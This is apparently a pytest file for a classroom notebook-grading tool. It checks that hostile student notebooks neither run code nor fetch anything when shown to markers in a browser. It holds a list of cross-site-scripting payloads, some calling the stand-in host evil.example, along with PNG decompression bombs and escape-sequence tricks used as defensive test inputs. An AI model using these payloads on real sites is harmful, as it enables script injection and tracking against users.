"""A student's notebook runs nothing in the marker's browser, loads nothing, and looks like what was written."""

from __future__ import annotations

import io
import json
import struct
import time
import zlib
from pathlib import Path

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from nbgrader.server_extensions.formgrader import handlers
from PIL import Image, PngImagePlugin

from helpers.classroom.cleaning import clean_picture, clean_text, inert_markdown, markdown_to_html
from helpers.classroom.engine.contract import Ran
from helpers.classroom.feedback import feedback_page
from helpers.classroom.judge import Mark
from helpers.classroom.marker_copy import marker_copy, outcome_in_words, pictures_of
from helpers.classroom.normalise import normalise, release_cells
from helpers.classroom.results import Result, Shown
from helpers.classroom.roster import Student
from helpers.classroom.submission import cells_of
from tests.browser import axe, chromium
from tests.classroom import small
from tests.classroom.made_class import solved

# What stands in the part of a page that shows the student's work, and must not.
DANGEROUS = """(part) => [...document.querySelector(part).querySelectorAll('*')].flatMap(node => [
    ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|STYLE|BASE|META|LINK|SVG)$/i.test(node.tagName) ? [node.tagName] : []),
    ...[...node.attributes].filter(one => /^on/i.test(one.name) || /javascript:|evil/i.test(one.value)).map(one => one.name),
])"""
RUN = "window.hacked = true; alert(1); fetch('http://evil.example/')"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"[click](javascript:{RUN.replace(' ', '')})",
    f"\\[click\\](javascript:alert(1)) &lt;script&gt;{RUN}&lt;/script&gt;",
    f'<iframe srcdoc="<script>parent.hacked=true</script>"></iframe><object data="data:text/html,<script>{RUN}</script>">',
    '<a href="JaVaScRiPt:alert(1)">x</a><a href="data:text/html,x">y</a><form action="http://evil.example"><button>z</button></form>',
    "![track](http://evil.example/pixel.png) ![a](attachment:evil.svg)",
    "$\\href{javascript:alert(1)}{x}$ $$\\require{html}\\style{position:fixed}{y}$$ \\\\(\\unicode{x}\\\\)",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    "<style>* { display: none }</style><div style='position:fixed;inset:0'>cover</div><base href='http://evil.example/'>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "</div></div></div><meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<details open ontoggle=alert(1)><summary>s</summary></details><input autofocus onfocus=alert(1)>",
    "{{ 7*7 }} {% raw %} <textarea></textarea><script>alert(1)</script>",
]


def hostile_copy(tmp_path: Path) -> NotebookNode:
    """The marker's notebook of a student who tries everything."""
    assignment = small.small_assignment(tmp_path)
    notebook = solved(assignment)
    for payload in PAYLOADS:
        notebook.cells += [new_markdown_cell(payload), new_raw_cell(payload), new_code_cell(f"# {payload}")]
    notebook.cells[-4].metadata = {"tags": ["x' onload='alert(1)"], "raw_mimetype": "text/html"}
    work = normalise(cells_of(notebook), release_cells(assignment.release))
    said = "".join(PAYLOADS) + "\x1b[31m\x1b]8;;javascript:alert(1)\x07"
    ran = {
        cell.cell_id: Ran(cell.cell_id, "error", 0.1, text=said, error=f"Error: {PAYLOADS[0]}", line=1)
        for cell in work.cells
        if cell.kind == "code"
    }
    return marker_copy(assignment, work, ran, {}, {"q1-checks": f"0 of 2 points. {PAYLOADS[0]}"})


def formgrader_page(notebook: NotebookNode, path: Path) -> Path:
    """Render a notebook as nbgrader's marking page does."""
    about = {"base_url": "", "submission_id": "x", "notebook_id": "small", "assignment_id": "small", "index": 0, "total": 1}
    names = {"student": "s1", "last_name": None, "first_name": None, "notebook_path": "x"}
    exporter = HTMLExporter(template_name="formgrade", extra_template_basedirs=[handlers.template_path])
    exporter.mathjax_url = ""
    html, _ = exporter.from_notebook_node(notebook, resources={**about, **names})
    path.write_text(html, encoding="utf-8")
    return path


def hostile_feedback(tmp_path: Path) -> Path:
    assignment = small.small_assignment(tmp_path / "again")
    words = tuple(
        Shown(f"q4/cell-{n}", "markdown", markdown_to_html(text), True, "", "", ()) for n, text in enumerate(PAYLOADS)
    )
    code = tuple(Shown(f"q1/cell-{n}", "code", text, True, text, text, ()) for n, text in enumerate(PAYLOADS))
    marks = tuple(Mark(item.grade_id, 0.0, "form", PAYLOADS[0], False, "") for item in assignment.items)
    result = Result("", "graded", "bubblewrap", PAYLOADS[1], (PAYLOADS[0],), marks, words + code)
    page = tmp_path / "feedback.html"
    page.write_text(feedback_page(assignment, Student("s1", PAYLOADS[0]), result, {}), encoding="utf-8")
    return page


def test_nothing_runs_and_nothing_is_fetched_in_a_real_browser(tmp_path: Path) -> None:
    pages = [formgrader_page(hostile_copy(tmp_path), tmp_path / "marking.html"), hostile_feedback(tmp_path)]
    with chromium() as browser:
        for path in pages:
            page = browser.new_page()
            dialogs: list[str] = []
            asked: list[str] = []
            page.on("dialog", lambda dialog, seen=dialogs: (seen.append(dialog.message), dialog.dismiss()))  # type: ignore[misc]
            page.on("request", lambda request, seen=asked: seen.append(request.url))  # type: ignore[misc]
            page.goto(path.as_uri())
            for link in page.locator("main a, #notebook a").all():
                if not (link.get_attribute("href") or "").startswith(("#", "http")):
                    link.click(timeout=2_000)
            assert page.evaluate("window.hacked") is None and dialogs == []
            assert [url for url in asked if "evil" in url] == []
            found = page.evaluate(DANGEROUS, "#notebook-container" if path.name == "marking.html" else "main")
            assert found == []
            assert page.evaluate("document.title") != ""
            assert path.name == "marking.html" or axe(page) == []  # a student's page is ours, and for everybody
            page.close()


def test_what_was_written_can_still_be_read(tmp_path: Path) -> None:
    source = (
        "# A *title*\n\n1. **first** with `a_b*c`\n2. second $x_1$\n\n> quoted\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\nاردو متن <b>x</b>"
    )
    html = markdown_to_html(source)
    for part in (
        "<strong>A <em>title</em></strong>",
        "<strong>first</strong>",
        "<code>a_b*c</code>",
        "$x_1$",
        "<td>2</td>",
        "اردو متن",
    ):
        assert part in html
    once = inert_markdown(source)
    assert "\n" not in once and once.count("<table>") == 1
    cell = new_markdown_cell(once)
    page, _ = HTMLExporter(template_name="basic").from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
    assert "<strong>first</strong>" in page and "<strong>A <em>title</em></strong>" in page


def test_the_file_of_the_marker_holds_text_and_pictures_and_nothing_else(tmp_path: Path) -> None:
    notebook = hostile_copy(tmp_path)
    nbformat.validate(notebook)
    kinds = {key for cell in notebook.cells for output in cell.get("outputs", ()) for key in output.get("data", {})}
    assert kinds <= {"image/png"}
    assert {cell.cell_type for cell in notebook.cells} == {"code", "markdown"}
    assert {key for cell in notebook.cells for key in cell.metadata} <= {"nbgrader"}
    assert not any("attachments" in cell for cell in notebook.cells)
    assert "\x1b" not in json.dumps(notebook, ensure_ascii=False)


def test_the_marker_sees_the_mark_scheme_and_the_verdict(tmp_path: Path) -> None:
    text = nbformat.writes(hostile_copy(tmp_path))
    assert "it names what the table does not show" in text and "0 of 2 points." in text


def png(size: tuple[int, int] = (40, 30), mode: str = "RGB", **save: object) -> bytes:
    written = io.BytesIO()
    Image.new(mode, size).save(written, format="PNG", **save)  # type: ignore[arg-type]
    return written.getvalue()


def test_a_picture_is_written_anew_without_what_was_hidden_in_it() -> None:
    about = PngImagePlugin.PngInfo()
    about.add_text("note", "<script>alert(1)</script>")
    clean = clean_picture(png(pnginfo=about) + b"<script>")
    assert clean is not None and b"script" not in clean and Image.open(io.BytesIO(clean)).size == (40, 30)
    for mode in ("P", "L", "RGBA", "1", "I;16"):
        assert clean_picture(png(mode=mode)) is not None


def test_what_is_no_picture_or_a_bomb_is_dropped_at_once() -> None:
    def bomb(width: int, height: int) -> bytes:
        head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 10_000)), (b"IEND", b"")]
        chunks = [struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in parts]
        return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)

    begun = time.perf_counter()
    bad = [
        b"",
        b"\x89PNG",
        b"GIF89a",
        b"<svg onload=alert(1)>",
        png()[:60],
        bomb(60_000, 60_000),
        bomb(4_000, 4_000),
        bomb(7_000, 1),
    ]
    assert [clean_picture(content) for content in bad] == [None] * len(bad)
    assert time.perf_counter() - begun < 2
    assert pictures_of(Ran("x", "ok", 0.1, pictures=(b"", *[png()] * 20))) == [clean_picture(png())] * 5


def test_a_text_loses_colours_and_signs_that_turn_the_writing() -> None:
    assert (
        clean_text("\x1b[31mred\x1b[0m\x00 a\u202eb \ud800 زبان\u200cہا")
        == "red ab  زبان\u200cہا".replace("ab", " ab", 1)[0:3] + " ab  زبان\u200cہا"
    )
    assert clean_text("\x1b[31mred\x1b[0m\x00 a\u202eb زبان\u200cہا") == "red ab زبان\u200cہا"
    assert clean_text("x" * 30_000).endswith("(the rest was cut off)")
    assert outcome_in_words(Ran("x", "timeout", 1.0)) == "This cell was stopped: it took too long."
    assert outcome_in_words(Ran("x", "ok", 1.0)) == ""


@pytest.mark.parametrize("pattern", ["[", "> ", "*a_ ", "`", "<", "- ", "![", "|", "<div>", "[](", "<!--", "$$"])
def test_no_markdown_takes_long(pattern: str) -> None:
    begun = time.perf_counter()
    inert_markdown(pattern * 9_000)
    assert time.perf_counter() - begun < 3
